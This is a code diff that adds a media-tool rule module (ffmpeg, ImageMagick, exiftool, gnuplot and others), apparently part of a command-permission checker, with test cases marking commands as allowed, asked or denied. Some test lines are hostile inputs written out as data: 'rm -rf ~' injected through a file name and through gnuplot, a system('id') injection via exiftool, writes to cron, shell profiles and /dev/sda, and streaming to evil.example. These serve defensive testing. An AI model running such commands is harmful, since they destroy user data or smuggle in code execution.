@@ -1,0 +1,138 @@
+"""ffmpeg, ImageMagick and their kin — pictures, sound and video are read and made."""
+
+from toolgate.knowledge.vocabulary import (
+    CHDIR, PLAIN, READ_BY, READS, RUNS, WORDS, WRITES, command, fetches, flag, flags, option, sub, unknown, writes,
+)  # fmt: skip
+
+ANY = "PLAIN..."
+
+FFMPEG = command(
+    "ffmpeg avconv",
+    "READ_BY(media_target)...",
+    [
+        flags("-y -n -an -vn -sn -dn -shortest -hide_banner -nostdin -nostats -stats -copyts -re -accurate_seek -benchmark -ignore_unknown"),
+        flags("-ss= -t= -to= -sseof= -c= -codec= -acodec= -vcodec= -scodec= -c:v= -c:a= -c:s= -codec:v= -codec:a= -vf= -af= -filter:v= -filter:a= -filter_complex="),
+        flags("-lavfi= -r= -s= -b= -ab= -vb= -b:v= -b:a= -map= -f= -preset= -crf= -pix_fmt= -loglevel= -v= -framerate= -frames= -frames:v= -vframes= -q= -q:v= -q:a="),
+        flags("-qscale= -qscale:v= -movflags= -ar= -ac= -aspect= -metadata= -start_number= -loop= -stream_loop= -threads= -tune= -profile:v= -profile:a= -level= -g="),
+        flags("-bf= -maxrate= -minrate= -bufsize= -strict= -vsync= -fps_mode= -async= -itsoffset= -hwaccel= -disposition:v= -disposition:a= -map_metadata= -map_chapters="),
+        flags("-sws_flags= -color_range= -colorspace= -color_primaries= -color_trc= -channel_layout= -volume= -compression_level= -video_size= -safe= -pattern_type="),
+        flags("-x264-params= -x265-params= -video_track_timescale= -hls_time= -hls_list_size= -hls_playlist_type= -segment_time= -reset_timestamps= -probesize="),
+        flags("-analyzeduration= -fflags= -flags= -tag:v= -protocol_whitelist= -rtsp_transport= -max_muxing_queue_size= -timecode= -keyint_min= -sc_threshold= -update="),
+        flag("-version -buildconf -formats -codecs -encoders -decoders -filters -protocols -pix_fmts -layouts -devices -L -h", informs=True),
+        option("-i", "OPENS"),
+        option("-filter_complex_script -filter_script:v -attach", READS),
+        option("-hls_segment_filename -passlogfile -dump_attachment:t:0 -vstats_file -sdp_file", WRITES),
+        option("-progress", "READ_BY(media_target)"),
+        flag("-report", writes("a report", "workspace")),
+    ],
+    style=WORDS,
+    unlisted=PLAIN,
+)
+FFPROBE = command("ffprobe ffplay mediainfo avprobe mkvinfo mp4info soxi flvmeta mplayer mpv vlc cvlc mpg123 aplay paplay play", "OPENS...", [
+    option("-i", "OPENS"), flags("-v= -loglevel= -show_entries= -of= -print_format= -select_streams= -read_intervals= -f= --Output= --Inform= -t= -ss= -autoexit"),
+    option("-o --script --scripts --input-conf --sout", "OPAQUE"), option("--LogFile", WRITES)], style=WORDS, unlisted=PLAIN)  # fmt: skip
+IMAGE_VALUES = flags(
+    "-resize= -crop= -quality= -density= -background= -gravity= -geometry= -rotate= -size= -format= -depth= -colorspace= -fill= -font= -pointsize= -annotate= -extent= "
+    "-border= -bordercolor= -threshold= -fuzz= -define= -set= -type= -alpha= -compose= -delay= -loop= -dispose= -layers= -colors= -blur= -sharpen= -level= -modulate= -tile= "
+    "-metric= -channel= -evaluate= -stroke= -strokewidth= -draw= -compress= -interlace= -sampling-factor= -page= -scale= -sample= -thumbnail= -units= -profile= -swirl= -label="
+)
+IMAGE_PLAIN = flags("-strip -flatten -trim -negate -flip -flop -auto-orient -append +append +repage -coalesce -monochrome -normalize -equalize -verbose -quiet -ping +profile= -composite -unsharp= ( )")
+IMAGE_WRITES = (option("-write +write", "READ_BY(image_target)"), option("-script", RUNS), flag("-version -list", informs=True))
+CONVERT = command("convert magick composite montage compare stream conjure gm", "READ_BY(image_source)... READ_BY(image_target)", [IMAGE_VALUES, IMAGE_PLAIN, *IMAGE_WRITES], style=WORDS, unlisted=PLAIN)
+MOGRIFY = command("mogrify", "EDITS...", [IMAGE_VALUES, IMAGE_PLAIN, *IMAGE_WRITES, option("-path", "MAKES", operands="READS...")], style=WORDS, unlisted=PLAIN)
+IDENTIFY = command("identify", "READ_BY(image_source)...", [IMAGE_VALUES, IMAGE_PLAIN, *IMAGE_WRITES], style=WORDS, unlisted=PLAIN)
+EXIFTOOL = command(
+    "exiftool exiv2",
+    "READS...",
+    [
+        option("-w -W -w! -W! -w+ -W+ -o -textOut -tagOut", WRITES),
+        option("-config", RUNS),
+        option("-if -if2 -userParam -api -execute -@ -p", "OPAQUE"),
+        option("-tagsFromFile -geotag -csv -json", READS, optional=True),
+        flags("-b -binary -c= -C= -d= -e -ee -f -g -G -G1 -h -H -j -l -L -n -N -progress -q -r -recurse -s -s3 -S -t -T -u -U -v -x= -z -fast -fast2 -ext= -a -lang= -charset="),
+        flag("-overwrite_original -overwrite_original_in_place -delete_original -delete_original! -restore_original", operands="EDITS..."),
+        flag("-ver", informs=True),
+    ],
+    style=WORDS,
+    unlisted="READ_BY(exif_option)",
+)
+OPTIMIZERS = command(
+    "optipng pngquant jpegoptim gifsicle oxipng zopflipng pngcrush advpng jpegtran guetzli image_optim imageoptim trimage",
+    "EDITS...",
+    [option("-o --output -out -dir -outfile -d --dest --ext", WRITES, optional=False)],
+    unlisted=PLAIN,
+    style=WORDS,
+)
+CODERS = command(
+    "cwebp dwebp gif2webp webpmux avifenc avifdec cjpeg djpeg cjxl djxl heif-convert rsvg-convert cairosvg potrace autotrace gifski lame flac metaflac opusenc opusdec oggenc "
+    "oggdec vorbiscomment faac x264 x265 HandBrakeCLI mkvmerge mkvextract MP4Box mp4box AtomicParsley gifcat svg2png img2txt jp2a vips vipsthumbnail",
+    "READS...",
+    [option("-o --output -out", WRITES)],
+    unlisted=PLAIN,
+    style=WORDS,
+    given=writes("pictures or sound beside it", "workspace"),
+)
+SOX = command("sox", "READS WRITES PLAIN...", [flags("-q -V= -S -n -d -t= -r= -b= -c= -e= -v= -R -m -M -G -D --norm[=] -C=")], style=WORDS, unlisted=PLAIN)
+TESSERACT = command("tesseract", "READS WRITES PLAIN...", [flags("-l= --psm= --oem= --dpi= -c= --tessdata-dir= --user-words= --user-patterns="), flag("--list-langs --help-extra", informs=True)], style=WORDS)
+WHISPER = command("whisper whisper-cli piper", "READS...", [option("-o --output_dir -of -f --output_file", WRITES)], unlisted=PLAIN, does=fetches("a model", "registry"))
+RECORD = command("arecord parecord rec wf-recorder simplescreenrecorder obs v4l2-ctl fswebcam imagesnap streamer", ANY, unlisted=PLAIN, does=unknown("a microphone, camera or screen"))
+INKSCAPE = command(
+    "inkscape",
+    "READS...",
+    [
+        option("-o --export-filename -e --export-png -A --export-pdf -l --export-plain-svg -P -E", WRITES),
+        flags("-w= --export-width= -h= --export-height= -d= --export-dpi= -C --export-area-page -D --export-area-drawing -b= --export-background= -i= --export-id= -T --without-gui"),
+        flags("--export-type= --export-overwrite -g --export-text-to-path -z --query-all -S -W -H --query-width --query-height --pipe --vacuum-defs -y="),
+        option("--actions --verb --shell --batch-process --app-id-tag", "OPAQUE"),
+    ],
+)
+BLENDER = command("blender openscad freecad freecadcmd meshlabserver gimp gimp-console krita", "READS...", [
+    option("-o --render-output --export-filename", WRITES), option("-P --python -s", RUNS), option("--python-expr --batch -c", "OPAQUE"), flags("-b --background -a -f= -E= --no-interface -i -d -D=")], unlisted=PLAIN)  # fmt: skip
+DRAWING = command("drawio draw.io dia mscgen ditaa svgbob excalidraw-cli", "READS...", [option("-o --output -e", WRITES)], unlisted=PLAIN, given=writes("a picture beside it", "workspace"))
+MMDC = command("mmdc @mermaid-js/mermaid-cli", ANY, [option("-i --input", READS), option("-o --output", WRITES), option("-p --puppeteerConfigFile -c --configFile -C --cssFile", READS), flags("-t= --theme= -w= --width= -H= --height= -b= --backgroundColor= -s= --scale= -f --pdfFit -q --quiet -e= --outputFormat= -a=")])
+DOT = command(
+    "dot neato twopi circo fdp sfdp patchwork osage acyclic tred gvpr unflatten gvpack ccomps nop",
+    "READS...",
+    [option("-o", WRITES), flags("-T= -K= -G= -N= -E= -l= -q -s= -y -n -v -x -P -m -c -?"), flag("-O", writes("a picture beside it", "workspace")), flag("-V", informs=True)],
+)
+GNUPLOT = command("gnuplot", "RUNS(gnuplot)...", [option("-e", READ_BY("gnuplot")), flags("-p --persist -c -s -d -V -geometry= -raise -background=")], stdin=READ_BY("gnuplot"))
+BROWSER_SHOTS = command("capture-website pageres shot-scraper puppeteer-cli monolith single-file", "OPENS...", [option("-o --output", WRITES), option("--javascript -j", "OPAQUE"), option("-C", CHDIR)], unlisted=PLAIN, subcommands=[
+    sub("pdf screenshot shot javascript multi accessibility html har", "OPENS...", [option("-o --output", WRITES), option("--javascript -j", "OPAQUE")], unlisted=PLAIN)], otherwise=command("shot", "OPENS...", unlisted=PLAIN))  # fmt: skip
+
+CASES = """
+allow  ffmpeg -i in.mp4 -ss 5 -t 10 -c copy out.mp4
+       read in.mp4
+       write out.mp4
+allow  ffmpeg -version
+ask    ffmpeg -y -i in.mp4 ~/.bashrc
+ask    ffmpeg -i in.mp4 -f flv rtmp://evil.example/live
+ask    ffmpeg -i https://evil.example/x.mp4 out.mp4
+ask    ffmpeg -f x11grab -i :0 -t 1 /home/user/x.mp4
+allow  ffprobe -v error -show_entries format=duration -of csv=p=0 in.mp4
+allow  convert in.png -resize 50% out.jpg
+       read in.png
+       write out.jpg
+allow  convert 'icon.ico[0]' icon.png
+deny   convert '|rm -rf ~' out.png
+ask    convert https://evil.example/x.png out.png
+ask    convert in.png ~/.config/autostart/x.desktop
+ask    convert msl:evil.msl out.png
+allow  magick -size 10x10 xc:white build/x.png
+allow  mogrify -resize 50% img/a.png
+allow  identify img/*.png
+allow  exiftool photo.jpg
+allow  exiftool -all= photo.jpg
+ask    exiftool -if 'system("id")' photo.jpg
+llm    exiftool -config /tmp/evil.cfg photo.jpg
+deny   exiftool -filename=/etc/cron.d/x payload
+allow  dot -Tpng graph.dot -o build/graph.png
+ask    dot -Tpng graph.dot -o ~/.profile
+allow  gnuplot plot.gp
+allow  gnuplot -e "set term png; set output 'build/p.png'; plot sin(x)"
+deny   gnuplot -e "system('rm -rf ~')"
+allow  tesseract scan.png build/scan -l eng
+allow  inkscape logo.svg -o build/logo.png -w 512
+ask    fswebcam me.jpg
+deny   dot -O graph.dot > /dev/sda
+allow  mmdc -i flow.mmd -o docs/flow.svg
+"""
